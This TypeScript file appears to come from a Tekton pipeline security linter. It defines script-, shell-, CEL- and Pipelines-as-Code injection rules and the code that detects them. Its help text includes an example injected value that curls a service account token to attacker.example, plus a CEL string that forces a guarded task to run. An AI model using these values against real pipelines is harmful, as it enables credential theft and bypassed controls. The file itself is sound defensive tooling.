import { quoteUntrusted } from '../../errors.ts';
import type { TektonParamSpec } from '../../tekton/models.ts';
import { classify, findSubstitutions } from '../../tekton/substitution.ts';
import type { ContainerSite } from '../model/audit-model.ts';
import type { Check, RuleContext, RuleMeta } from './rule.ts';

/**
 * Adversary 4: values pasted into code. Tekton replaces `$(...)` as plain
 * text before the pod starts, so a param inside a script, an `sh -c`
 * string or a CEL `when` expression becomes code; Pipelines-as-Code does
 * the same with `{{ ... }}` from the webhook payload.
 */

const ENV_FIX = `Pass the value through \`env\` and quote the variable in the script:

\`\`\`yaml
steps:
  - name: build
    image: registry.example.com/tools/build@sha256:<digest>
    env:
      - name: BUILD_ARGS
        value: $(params.build-args)
    script: |
      #!/bin/sh
      set -eu
      docker build "$BUILD_ARGS" .
\`\`\`

Validate the value first with the catalog's validate-params Task, and prefer an \`enum\` on the param where the values are known.`;

export const scriptInjection: RuleMeta = {
  id: 'TA401',
  name: 'script-injection',
  severity: 'error',
  securitySeverity: 8.8,
  adversary: 4,
  group: 'injection',
  summary: 'A param, task result or step result is substituted into a step script, where it becomes code.',
  help: `Tekton pastes \`$(params.x)\` into the script text before the step runs, so a value such as \`x; curl attacker.example -d @/var/run/secrets/kubernetes.io/serviceaccount/token\` runs as part of the script.\n\n${ENV_FIX}`,
};

export const scriptSubstitutionTrusted: RuleMeta = {
  id: 'TA402',
  name: 'script-substitution',
  severity: 'note',
  securitySeverity: 2.0,
  adversary: 4,
  group: 'injection',
  summary: 'A Tekton-controlled value (workspace path or property, context name, credentials path) is substituted into a script.',
  help: `Workspace paths, \`$(context.*)\` names and \`$(credentials.path)\` are chosen by Tekton or by whoever creates the run, and are restricted to safe characters, so this is not an injection by itself. Passing them through \`env\` still keeps scripts free of substitutions, which makes the dangerous ones easy to spot:\n\n\`\`\`yaml\nenv:\n  - name: SOURCE_DIR\n    value: $(workspaces.source.path)\nscript: |\n  cd "$SOURCE_DIR"\n\`\`\``,
};

export const shellCommandInjection: RuleMeta = {
  id: 'TA403',
  name: 'shell-code-injection',
  severity: 'error',
  securitySeverity: 8.8,
  adversary: 4,
  group: 'injection',
  summary: 'A substitution is pasted into the code string of `sh -c`, `bash -c`, `python -c` or similar.',
  help: `The string after \`-c\` is code, exactly like a script. Pass the value as a separate argument and read it as \`$1\`, or through \`env\`:\n\n\`\`\`yaml\ncommand: ["sh", "-c", "echo \\"$1\\"", "--"]\nargs: ["$(params.message)"]\n\`\`\``,
};

export const whenExpressionInjection: RuleMeta = {
  id: 'TA404',
  name: 'when-cel-injection',
  severity: 'warning',
  securitySeverity: 6.5,
  adversary: 4,
  group: 'injection',
  summary: 'A param or task result is substituted into a CEL `when` expression.',
  help: `A CEL expression such as \`"'$(params.branch)' == 'main'"\` turns into \`'x' || true || '' == 'main'\` for the value \`x' || true || '\`, so the guarded task runs when it should not. Compare with an input/operator/values expression instead, which treats the value as data:\n\n\`\`\`yaml\nwhen:\n  - input: $(params.branch)\n    operator: in\n    values: ["main"]\n\`\`\``,
};

export const pacTemplateInjection: RuleMeta = {
  id: 'TA405',
  name: 'pac-template-injection',
  severity: 'error',
  securitySeverity: 9.1,
  adversary: 4,
  group: 'injection',
  summary: 'A Pipelines-as-Code `{{ ... }}` placeholder from the event (body, headers, branch, comment) is pasted into code.',
  help: `Pipelines-as-Code replaces \`{{ body.pull_request.title }}\`, \`{{ source_branch }}\` and the like in the PipelineRun text before Tekton sees it. Anyone who can open a pull request chooses those values. Pass them as a param and read them through \`env\`:\n\n\`\`\`yaml\nspec:\n  params:\n    - name: source-branch\n      value: "{{ source_branch }}"\n  pipelineSpec:\n    tasks:\n      - name: show\n        taskSpec:\n          steps:\n            - name: show\n              image: registry.example.com/tools/sh@sha256:<digest>\n              env:\n                - name: SOURCE_BRANCH\n                  value: $(params.source-branch)\n              script: |\n                echo "$SOURCE_BRANCH"\n\`\`\``,
};

/** Substitutions whose value nobody outside Tekton's own validation chooses freely. */
const TRUSTED_KINDS = new Set(['workspace', 'context', 'credentials']);
/** Paths Tekton generates under /tekton: fixed text, nothing to report. */
const TEKTON_PATHS = new Set(['result', 'own-step-result', 'step-exit-code']);
/** Enum values this safe cannot break out of any quoting. */
const SAFE_ENUM_VALUE = /^[A-Za-z0-9._/:@=+,-]*$/;
/** Pipelines-as-Code placeholders that hold only a commit, a URL of the repository, a number or a secret name. */
const PAC_SAFE = new Set(['revision', 'repo_url', 'repo_owner', 'repo_name', 'target_namespace', 'pull_request_number', 'git_auth_secret', 'event_type', 'target_branch', 'git_tag']);
const PAC_PLACEHOLDER = /\{\{\s*([^{}]+?)\s*\}\}/g;

export interface CodeSubstitution {
  raw: string;
  /** true: Tekton-controlled (TA402); false: attacker-influenced. */
  trusted: boolean;
  pac: boolean;
}

/** Every substitution in `code` that lands in code, skipping params whose enum keeps them safe. */
export function codeSubstitutions(code: string, params: readonly TektonParamSpec[] | undefined, pac: boolean): CodeSubstitution[] {
  const out: CodeSubstitution[] = [];
  const seen = new Set<string>();
  for (const s of findSubstitutions(code)) {
    if (seen.has(s.raw)) continue;
    seen.add(s.raw);
    const ref = classify(s);
    if (ref.kind === 'other' || ref.kind === 'legacy' || TEKTON_PATHS.has(ref.kind)) continue;
    if (ref.kind === 'param') {
      const spec = params?.find((p) => p.name === ref.name);
      if (spec?.enum && spec.enum.length > 0 && spec.enum.every((v) => SAFE_ENUM_VALUE.test(v))) continue;
    }
    out.push({ raw: s.raw, trusted: TRUSTED_KINDS.has(ref.kind), pac: false });
  }
  if (pac) {
    for (const match of code.matchAll(PAC_PLACEHOLDER)) {
      if (seen.has(match[0])) continue;
      seen.add(match[0]);
      out.push({ raw: match[0], trusted: PAC_SAFE.has(match[1]!.trim()), pac: true });
    }
  }
  return out;
}

function paramsFor(site: ContainerSite): readonly TektonParamSpec[] | undefined {
  if (site.kind === 'StepAction' && site.doc.kind === 'StepAction') return site.doc.data.spec.params;
  return site.task?.spec.params;
}

const SHELLS = new Set(['sh', 'bash', 'ash', 'dash', 'zsh', 'ksh', 'mksh', 'busybox']);
const EVALUATORS: Record<string, RegExp> = {
  python: /^-c$/,
  node: /^(-e|-p|--eval|--print)$/,
  perl: /^-[A-Za-z]*[eE]$/,
  ruby: /^-e$/,
  pwsh: /^(-c|-Command)$/i,
  powershell: /^(-c|-Command)$/i,
};

/** The index in argv of the code string of `sh -c CODE` (or python -c, node -e …), if any. */
export function shellCodeIndex(argv: readonly string[]): number | undefined {
  for (let i = 0; i < argv.length; i++) {
    const base = argv[i]!.split('/').pop()!;
    const program = base.replace(/[0-9.]+$/, '');
    const isShell = SHELLS.has(base);
    const evaluator = EVALUATORS[program];
    if (!isShell && !evaluator) continue;
    for (let j = i + 1; j < argv.length; j++) {
      const arg = argv[j]!;
      if (base === 'busybox' && j === i + 1 && SHELLS.has(arg)) continue;
      if (isShell ? /^-[A-Za-z]*c[A-Za-z]*$/.test(arg) && !arg.startsWith('--') : evaluator!.test(arg)) {
        return j + 1 < argv.length ? j + 1 : undefined;
      }
      if (!arg.startsWith('-')) break;
    }
    return undefined;
  }
  return undefined;
}

function describeContainer(site: ContainerSite): string {
  if (site.kind === 'StepAction') return `StepAction ${quoteUntrusted(site.doc.name)}`;
  return `${site.kind} ${quoteUntrusted(site.name)} of ${site.task?.label ?? site.doc.resource}`;
}

function reportCode(context: RuleContext, site: ContainerSite, where: string, path: (string | number)[], code: string): void {
  for (const sub of codeSubstitutions(code, paramsFor(site), site.pipelinesAsCode)) {
    const shown = quoteUntrusted(sub.raw, 80);
    if (sub.pac) {
      if (sub.trusted) continue;
      context.report(pacTemplateInjection, { doc: site.doc, path, needle: sub.raw }, `${where} of ${describeContainer(site)} pastes the Pipelines-as-Code placeholder ${shown}, which the event's sender controls, into code`, { key: sub.raw });
    } else if (sub.trusted) {
      context.report(scriptSubstitutionTrusted, { doc: site.doc, path, needle: sub.raw }, `${where} of ${describeContainer(site)} holds ${shown}; pass it through env instead`, { key: sub.raw });
    } else {
      const rule = where === 'script' ? scriptInjection : shellCommandInjection;
      context.report(rule, { doc: site.doc, path, needle: sub.raw }, `${where} of ${describeContainer(site)} pastes ${shown} into code; pass it through env and quote the variable`, { key: sub.raw });
    }
  }
}

const checkContainers: Check = (context) => {
  for (const site of context.model.containers) {
    if (site.stepAction !== 'none') continue; // the StepAction's own document is audited
    if (site.script !== undefined) reportCode(context, site, 'script', [...site.path, 'script'], site.script);
    const command = site.command ?? [];
    const argv = [...command, ...(site.args ?? [])];
    const index = site.script === undefined ? shellCodeIndex(argv) : undefined;
    if (index !== undefined) {
      const path = index < command.length ? [...site.path, 'command', index] : [...site.path, 'args', index - command.length];
      reportCode(context, site, 'the -c code string', path, argv[index]!);
    }
  }
};

const checkWhen: Check = (context) => {
  if (!context.enabled(whenExpressionInjection)) return;
  for (const site of context.model.pipelineTasks) {
    (site.task.when ?? []).forEach((when, i) => {
      if (typeof when.cel !== 'string') return;
      for (const sub of codeSubstitutions(when.cel, site.pipeline.spec.params, site.pipeline.pipelinesAsCode)) {
        if (sub.trusted) continue;
        context.report(
          whenExpressionInjection,
          { doc: site.pipeline.doc, path: [...site.path, 'when', i, 'cel'], needle: sub.raw },
          `the CEL when expression of task ${quoteUntrusted(site.task.name)} pastes ${quoteUntrusted(sub.raw, 80)} into the expression; use input/operator/values instead`,
          { key: sub.raw },
        );
      }
    });
  }
};

export const injectionRules = {
  rules: [scriptInjection, scriptSubstitutionTrusted, shellCommandInjection, whenExpressionInjection, pacTemplateInjection],
  checks: [checkContainers, checkWhen],
};
